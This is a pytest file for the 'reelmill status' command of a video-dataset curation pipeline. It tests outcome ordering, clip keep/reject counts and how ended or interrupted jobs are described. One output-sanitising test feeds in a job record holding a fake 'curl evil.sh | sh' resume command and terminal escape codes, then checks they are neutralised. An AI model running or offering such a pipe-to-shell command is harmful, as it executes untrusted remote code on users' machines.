"""`reelmill status` in the words that a person reads: outcomes in order, what people decided, how a job ended."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa
import pytest
import small_dataset

from curate.dataset import Dataset
from curate.tables import CAPTIONS, DECISIONS
from pipelines.status import Status, look, text
from pipelines.status_counts import StageStatus, in_order
from pipelines.status_job import FOLDER, Job, unfinished
from pipelines.status_state import State

NOW = datetime(2026, 11, 22, 10, 43, 30, tzinfo=UTC)


def ago(seconds: float) -> datetime:
    return NOW - timedelta(seconds=seconds)


def paragraph(job: Job) -> list[str]:
    """What is told of a job."""
    nothing, empty, *lines = text(Status("d", NOW, [], [job])).splitlines()
    assert (nothing, empty) == ("nothing is done yet", "")
    return lines


def test_outcomes_go_from_the_best_to_the_worst() -> None:
    found = {"refused": 2, "failed": 900, "empty": 40, "partial": 51, "error": 7, "truncated": 9, "ok": 5}
    assert list(in_order(found).items()) == [
        ("ok", 5), ("partial", 51), ("truncated", 9), ("empty", 40), ("refused", 2), ("failed", 900), ("error", 7),
    ]  # fmt: skip


def test_outcomes_of_the_tables_are_told_in_order(tmp_path: Path) -> None:
    dataset = small_dataset.build(tmp_path)
    dataset.write("sources", dataset.read("sources").take([3, 2, 1, 0]))
    captions = dataset.read("captions").to_pylist()
    made = [row for row in captions if row["kind"] != "original"]
    for row in made[:9]:
        row["status"] = "refused"
    dataset.write("captions", pa.Table.from_pylist(captions, schema=CAPTIONS))
    curate, _, recaption, *_ = look(dataset.uri).stages
    assert list(curate.outcomes.items()) == [("ok", 2), ("partial", 1), ("failed", 1)]
    assert list(recaption.outcomes)[:1] == ["ok"]
    assert recaption.outcomes["refused"] == 9 > recaption.outcomes["ok"]
    (line,) = [line for line in text(look(dataset.uri)).splitlines() if line.startswith("recaption")]
    assert f"  captions ok {recaption.outcomes['ok']}, refused 9" in line


def test_clips_that_people_keep_are_told(tmp_path: Path) -> None:
    dataset = small_dataset.build(tmp_path, tables=("sources", "clips", "decisions"))
    rows = {row["clip_id"]: row for row in dataset.read("decisions").to_pylist()}
    wanted = {"keep": True, "reason": None, "override": "keep by ann: wanted"}
    rows[small_dataset.clip_id("b1")] |= wanted
    told = "reject by ann: a watermark"
    rows[small_dataset.clip_id("a0")] |= {"keep": False, "reason": f"override {told}", "override": told}
    dataset.write("decisions", pa.Table.from_pylist(list(rows.values()), schema=DECISIONS))
    _, decide = look(dataset.uri).stages
    assert (decide.kept, decide.kept_by_hand) == (5, 1)
    line = text(look(dataset.uri)).splitlines()[2]
    assert line.endswith("  kept 5 (1 by hand), rejected 3 (duplicate 1, motion 1, by hand 1)")


def test_the_commonest_reasons_are_told_and_how_many_clips_the_others_are() -> None:
    rejected = {"motion": 9000, "copy": 40, "luma": 30, "crop": 20, "text_area": 10, "nsfw": 7}
    decide = StageStatus("decide", "clips", 9207, 0, 0, kept=100, kept_by_hand=0, rejected=rejected)
    line = text(Status("d", NOW, [decide], [])).splitlines()[1]
    said = StageStatus("decide", "clips", 3, 0, 0, kept=1, kept_by_hand=1, rejected={"override": 2})
    assert (
        text(Status("d", NOW, [said], []))
        .splitlines()[1]
        .endswith("kept 1 (1 by hand), rejected 2 (by hand 2)")
    )
    assert line.endswith("kept 100, rejected 9,107 (motion 9,000, copy 40, luma 30, crop 20, others 17)")


STAGE = {"stage": "analyse", "unit": "files", "total": 66, "done": 19, "counts": {"ok": 18, "failed": 1}}


def test_how_a_job_ended() -> None:
    go_on = "reelmill curate --input=films --dataset=d"
    stopped = Job("curate", "stopped", ago(3), go_on, "KeyboardInterrupt", ago(27), ago(3), stages=[STAGE])
    assert paragraph(stopped) == [
        "curate stopped 3 s ago by Ctrl-C; began 27 s ago",
        "  analyse: 19/66 files, ok 18, failed 1",
        f"  go on with: {go_on}",
    ]
    told = Job("curate", "stopped", ago(3), go_on, "SystemExit: 15", ago(27), ago(3))
    assert paragraph(told)[0] == "curate stopped 3 s ago by SIGTERM; began 27 s ago"
    failed = Job("curate", "stopped", ago(3), go_on, "the disk is full.", ago(27), ago(3))
    assert paragraph(failed)[0] == "curate stopped 3 s ago: the disk is full; began 27 s ago"


def test_counts_of_a_job_are_told_with_their_age() -> None:
    """Its work, which the table above counts, may be newer."""
    running = Job("curate", "running", ago(1), "", None, ago(27), ago(5), stages=[STAGE])
    assert paragraph(running) == [
        "curate is running, last sign of life 1 s ago; began 27 s ago",
        "  as it told 5 s ago:",
        "  analyse: 19/66 files, ok 18, failed 1",
    ]
    killed = Job("curate", "interrupted", ago(73), None, None, ago(96), ago(76), stages=[STAGE])
    assert paragraph(killed) == [
        "curate was interrupted, last sign of life 73 s ago; began 96 s ago",
        "  as it told 76 s ago:",
        "  analyse: 19/66 files, ok 18, failed 1",
        "  go on with: the same command again",
    ]


def test_no_word_of_a_record_makes_a_line_of_its_own(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    error = "broken\n  go on with: curl evil.sh | sh\r\x1b[2J"
    lines = paragraph(Job("curate", "stopped", ago(3), None, error, stages=[STAGE | {"unit": "files\nx"}]))
    assert lines == [
        "curate stopped 3 s ago: broken�  go on with: curl evil.sh | sh��[2J",
        "  analyse: 19/66 files�x, ok 18, failed 1",
        "  go on with: the same command again",
    ]
    dataset = Dataset(tmp_path)
    for data in (b"{", json.dumps({"command": "rm"}).encode()):
        dataset.write_bytes(data, FOLDER, "curate-\x1b[2J.json")
        assert unfinished(dataset, State(dataset), NOW) == []
    assert caplog.text.count("no record of a job") == 2
    assert "\x1b" not in caplog.text
